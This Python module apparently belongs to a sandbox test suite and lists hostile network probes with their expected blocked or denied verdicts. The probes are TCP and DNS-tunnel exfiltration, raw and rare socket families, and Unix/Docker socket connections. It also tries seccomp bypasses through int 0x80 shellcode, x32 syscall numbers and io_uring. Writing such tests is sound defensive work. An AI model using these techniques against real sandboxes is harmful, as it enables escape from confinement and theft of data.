"""Network access: sockets of all kinds, and system calls that bypass the filter."""

from hostile.attack import BLOCKED, CRASHED, DENIED, Hostile

I386 = '''
import mmap


def int80(number, *arguments):
    """A system call of 32-bit programs, which have other numbers."""
    code = b"\\x53\\x56\\x57" + b"".join(prefix + struct.pack("<I", value) for prefix, value in zip(
        (b"\\xb8", b"\\xbb", b"\\xb9", b"\\xba", b"\\xbe"), (number, *arguments, *[0] * 5))) + b"\\xcd\\x80\\x5f\\x5e\\x5b\\xc3"
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
'''


def calls(name, tries, seen, code, verdicts=frozenset({BLOCKED}), **more):
    """Make an attack that needs a socket, which is refused."""
    return Hostile(name, tries, seen, "import socket\n" + code, verdicts=verdicts, **more)


HOSTILE = [
    calls(
        "tcp-out",
        "Sends its answers to somebody by TCP.",
        "There is no such socket to be had.",
        """
socket.create_connection(("127.0.0.1", @TCP@), 2).sendall(b"@MARK@")
loot("connected")
""",
    ),
    calls(
        "dns-tunnel",
        "Sends its answers as the name in a DNS question, by UDP.",
        "There is no such socket to be had.",
        """
question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len("@MARK@")]) + b"@MARK@" + b"\\7invalid\\0\\0\\1\\0\\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", @UDP@))
loot("sent")
""",
    ),
    calls(
        "listen",
        "Waits for others to call, on all addresses, of both versions of IP.",
        "There is no such socket to be had.",
        """
for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
    attempt(lambda: loot(f"listening at {socket.create_server((address, 0), family=family).getsockname()}"))
""",
        DENIED,
    ),
    calls(
        "raw-socket",
        "Makes packets by hand, and listens to those of others.",
        "There is no such socket to be had.",
        """
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_DGRAM, 1), (17, socket.SOCK_RAW, 768)):
    attempt(lambda: loot(socket.socket(family, kind, protocol)))
""",
        DENIED,
    ),
    calls(
        "odd-sockets",
        "Tries the rarely used families: netlink, vsock to the host, the kernel's crypto, "
        "Bluetooth and 40 others.",
        "There is none but those between processes of one machine.",
        """
for family in range(2, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        attempt(lambda: loot(f"family {socket.socket(family, kind).family}"))
""",
        DENIED,
    ),
    calls(
        "abstract-socket",
        "Calls a service of the machine at a socket that has a name and no file.",
        "Nobody is there.",
        """
name = "\\0" + "@ABSTRACT@"[::-1]
socket.socket(socket.AF_UNIX).connect(name)
loot("connected")
""",
        DENIED,
    ),
    calls(
        "socket-file",
        "Calls a service of the machine, as Docker is one, at a socket file that is open to all.",
        "The file does not exist, or cannot be opened.",
        """
socket.socket(socket.AF_UNIX).connect("@UNIX@")
loot("connected")
""",
        DENIED,
    ),
    Hostile(
        "sockets-of-32-bit-programs",
        "Asks for a socket by the system calls of 32-bit programs, which a filter may have "
        "overlooked.",
        "The process is ended, or the call refused.",
        I386
        + """
if (made := int80(359, 2, 1, 0)) >= 0:
    loot(f"socket {made}")
raise OSError(-made, os.strerror(-made))
""",
        verdicts=DENIED | {CRASHED},
    ),
    Hostile(
        "sockets-of-x32-programs",
        "Asks for a socket by the numbers of the x32 interface, which a filter may have "
        "overlooked.",
        "The process is ended, or the call refused.",
        """
loot(f"socket {syscall(0x40000000 + 41, 2, 1, 0)}")
""",
        verdicts=DENIED | {CRASHED},
        sandbox=False,
    ),
    Hostile(
        "io-uring",
        "Opens sockets and files by io_uring, which no filter of system calls sees.",
        "The system call is refused.",
        """
loot(f"ring {syscall(425, 8, ctypes.create_string_buffer(248))}")
""",
        verdicts=frozenset({BLOCKED}),
    ),
]
